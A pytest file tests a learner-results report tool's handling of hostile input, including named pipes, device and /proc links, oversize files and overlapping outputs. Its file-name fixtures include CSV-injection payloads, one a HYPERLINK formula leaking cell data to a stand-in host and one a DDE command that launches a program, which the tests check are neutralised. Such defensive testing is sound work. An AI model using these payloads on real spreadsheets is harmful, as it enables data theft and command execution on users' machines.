"""The class report under hostile input: file names that are spreadsheet
formulas or split CSV rows, named pipes, devices, /proc/kmsg behind a link,
broken links, folders, upper-case names, oversize files and too many bytes in
all, and outputs that overlap or cannot be written. Each file given is either
counted or listed as skipped; the command always ends."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_NAMES = [
    '=HYPERLINK("evil.example?leak="&A1,"click").json',
    "+cmd|' -C calc'!A0.json",
    "@SUM(1+1)*cmd.json",
    "-2+3.json",
    "row\rsplit.json",
    "tab\tname.json",
]


def _record(i: int, **extra) -> dict:
    return {
        "format": "iliopsoas-lessons-results",
        "schema_version": 1,
        "package_version": "0.1.0",
        "learner_id": f"{i:032x}",
        "pseudonym": None,
        "exercises": {"quiz": {}, "red_flag_cases": {}, "pain_map": {}},
        **extra,
    }


def _run(args, cwd, timeout=120) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [sys.executable, "-m", "iliopsoas_lessons.report", *map(str, args)],
        capture_output=True,
        text=True,
        timeout=timeout,
        cwd=cwd,
        env=env,
    )


@pytest.fixture
def hostile(tmp_path):
    """A folder of hostile entries, and explicit hostile paths; returns (folder, explicit, good names)."""
    folder = tmp_path / "in"
    folder.mkdir()
    good = []
    for i, name in enumerate(FORMULA_NAMES):
        (folder / name).write_text(json.dumps(_record(i + 1)))
        good.append(name)
    (folder / "UPPER.JSON").write_text(json.dumps(_record(50)))
    good.append("UPPER.JSON")
    os.mkfifo(folder / "pipe.json")
    (folder / "kmsg.json").symlink_to("/proc/kmsg")
    (folder / "zero.json").symlink_to("/dev/zero")
    (folder / "broken.json").symlink_to(tmp_path / "nowhere.json")
    (folder / "adir.json").mkdir()  # a folder named .json: walked, holds nothing
    (folder / "linked-dir.json").symlink_to(tmp_path)  # a link to a folder: not followed
    (folder / "big.json").write_bytes(b'{"x": "' + b"y" * 1_100_000 + b'"}')
    os.mkfifo(tmp_path / "given-pipe")
    (tmp_path / "given-kmsg").symlink_to("/proc/kmsg")
    (tmp_path / "given-zero").symlink_to("/dev/zero")
    (tmp_path / "given-broken").symlink_to(tmp_path / "gone")
    (tmp_path / "GIVEN.JSON").write_text(json.dumps(_record(60)))
    explicit = ["given-pipe", "given-kmsg", "given-zero", "given-broken", "GIVEN.JSON"]
    return folder, explicit, good + ["GIVEN.JSON"]


def _entries(folder: Path) -> list[str]:
    """The .json entries of the folder (any case), which the report must account for."""
    return [p.name for p in folder.iterdir() if p.name.lower().endswith(".json") and p.name != "adir.json"]


def test_every_hostile_file_is_counted_or_skipped_and_the_command_ends(hostile, tmp_path):
    folder, explicit, good = hostile
    # relative paths: a name that is a formula then starts its cell
    run = _run(["in", *explicit, "-o", "report.html"], cwd=tmp_path, timeout=60)
    assert run.returncode == 0, run.stderr
    assert run.stdout.startswith(f"{len(good)} learner(s) counted")
    rows = list(csv.reader(io.StringIO((tmp_path / "report.csv").read_text(encoding="utf-8"), newline="")))
    skipped = {row[1].removeprefix("'"): row[4] for row in rows if row[0] == "skipped"}
    named = {Path(p).name for p in skipped}
    accounted = set(good) | named
    missing = [n for n in _entries(folder) + explicit if n not in accounted]
    assert missing == []  # neither counted nor listed
    reasons = {Path(p).name: why for p, why in skipped.items()}
    assert "named pipe" in reasons["pipe.json"] and "named pipe" in reasons["given-pipe"]
    assert "device" in reasons["zero.json"] and "link to a device" in reasons["given-zero"]
    assert "broken link" in reasons["broken.json"] and "broken link" in reasons["given-broken"]
    assert "link to a folder" in reasons["linked-dir.json"]
    assert "too big" in reasons["big.json"]
    # never opened (reading it would hang, or take the kernel's log from the system)
    assert "a system file (under /proc/)" in reasons["kmsg.json"] and "a system file" in reasons["given-kmsg"]


def test_the_csv_cells_cannot_be_formulas_and_rows_stay_whole(hostile, tmp_path):
    folder, _, _ = hostile
    for name in FORMULA_NAMES[:3]:  # the same names skipped, so they land in cells of their own
        (folder / name).write_text("{not json")
    run = _run(
        [
            "in/" + FORMULA_NAMES[0],
            "in/" + FORMULA_NAMES[1],
            FORMULA_NAMES[2],
            "in/" + FORMULA_NAMES[4],
            "-o",
            "r.html",
        ],
        cwd=tmp_path,
        timeout=60,
    )
    # the third is not in the cwd: "no such file", its name still starts a cell
    text = (tmp_path / "r.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert all(len(row) == 5 for row in rows), rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), (cell, run.stderr)
    assert any(cell == "'" + FORMULA_NAMES[2] for row in rows for cell in row)
    # every cell is quoted in the file itself: a CR in a name stays inside its cell
    physical = [line for line in text.split("\n") if line]
    assert all(line.startswith('"') for line in physical[:2])
    assert text.count("\n") == len(rows) + sum(cell.count("\n") for row in rows for cell in row)
    # counts stay numbers a spreadsheet reads
    assert ["class", "", "", "learners", "1"] in rows


def test_neutralised_cells_keep_their_text_after_the_apostrophe():
    from iliopsoas_lessons.report.page import _cell

    assert _cell("=1+1") == "'=1+1" and _cell("@x") == "'@x" and _cell("\rx") == "'\rx" and _cell("\tx") == "'\tx"
    assert _cell("-3") == "'-3" and _cell("+3") == "'+3"
    assert _cell("plain") == "plain" and _cell(7) == 7 and _cell(True) == "True"


def test_a_trailing_newline_id_is_not_a_second_learner(tmp_path):
    from iliopsoas_lessons.report import collect

    rec = _record(7)
    (tmp_path / "a.json").write_text(json.dumps(rec))
    (tmp_path / "b.json").write_text(json.dumps({**rec, "learner_id": rec["learner_id"] + "\n"}))
    (tmp_path / "c.json").write_text(
        json.dumps(
            {**_record(8), "exercises": {"quiz": {"q1\n": {"first": {"answer": 0, "correct": True}, "later": []}}}}
        )
    )
    got = collect([tmp_path])
    assert got.learners == 1
    why = {p.name: w for p, w in got.skipped}
    assert "learner_id" in why["b.json"] and "not a key" in why["c.json"]


def test_the_total_input_cap_skips_the_rest_and_says_so(tmp_path):
    from iliopsoas_lessons.report import collect

    for i in range(6):
        (tmp_path / f"l{i}.json").write_text(json.dumps(_record(i, pseudonym="x" * 40)))
    size = (tmp_path / "l0.json").stat().st_size
    got = collect([tmp_path], max_total=size * 4 + 1)
    assert got.learners == 4
    assert [p.name for p, _ in got.skipped] == ["l4.json", "l5.json"]
    assert all("at most" in why and "MB in all" in why for _, why in got.skipped)
    assert collect([tmp_path], max_files=2).learners == 2


def test_the_command_names_the_cap_when_it_stops_reading(tmp_path, monkeypatch, capsys):
    import functools

    from iliopsoas_lessons import report
    from iliopsoas_lessons.report.collect import collect

    for i in range(3):
        (tmp_path / f"l{i}.json").write_text(json.dumps(_record(i)))
    monkeypatch.setattr(report, "collect", functools.partial(collect, max_files=1))
    assert report.main([str(tmp_path), "-o", str(tmp_path / "r.html")]) == 0
    err = capsys.readouterr().err
    assert "skipped " in err and "l1.json: not read: the report reads at most" in err
    assert "2 file(s) not read: over the cap of" in err


def test_outputs_that_overlap_or_are_inputs_are_refused_in_one_line(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.json").write_text(json.dumps(_record(1)))
    (tmp_path / "afile").write_text("x")
    (tmp_path / "out").mkdir()
    cases = [
        (["in", "-o", "x.csv"], "both be written to"),
        (["in", "-o", "r.html", "--csv", "r.html"], "both be written to"),
        (["in", "-o", "r.html", "--csv", "./r.html"], "both be written to"),
        (["in/a.json", "-o", "in/a.json"], "one of the results given"),
        (["in", "-o", "r.html", "--csv", "in/a.json"], "one of the results given"),
        (["in", "-o", "afile/r.html"], "does not exist"),
        (["in", "-o", "in"], "one of the results given"),
        (["in", "-o", "out"], "is a folder"),
    ]
    before = (tmp_path / "in" / "a.json").read_bytes()
    for args, message in cases:
        run = _run(args, cwd=tmp_path, timeout=60)
        assert run.returncode == 2, (args, run.stderr)
        assert message in run.stderr and "Traceback" not in run.stderr, (args, run.stderr)
        assert run.stderr.strip().splitlines()[-1].startswith("python -m iliopsoas_lessons.report: error: ")
    assert (tmp_path / "in" / "a.json").read_bytes() == before
    assert not (tmp_path / "x.csv").exists() and not (tmp_path / "r.html").exists()


def test_the_report_is_written_readable_by_others(tmp_path):
    (tmp_path / "a.json").write_text(json.dumps(_record(1)))
    old = os.umask(0o022)
    try:
        run = _run([tmp_path / "a.json", "-o", tmp_path / "r.html"], cwd=tmp_path)
    finally:
        os.umask(old)
    assert run.returncode == 0, run.stderr
    for name in ("r.html", "r.csv"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o644, name
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_a_folder_that_cannot_be_listed_is_said(tmp_path, monkeypatch):
    from iliopsoas_lessons.report import collect

    (tmp_path / "ok").mkdir()
    (tmp_path / "ok" / "a.json").write_text(json.dumps(_record(1)))
    (tmp_path / "locked").mkdir()
    real = os.scandir

    def scandir(path="."):  # as a folder without read permission answers (the tests run as root)
        if Path(path).name == "locked":
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    got = collect([tmp_path])
    assert got.learners == 1
    assert [(p.name, why) for p, why in got.skipped] == [("locked", "a folder that cannot be read (Permission denied)")]
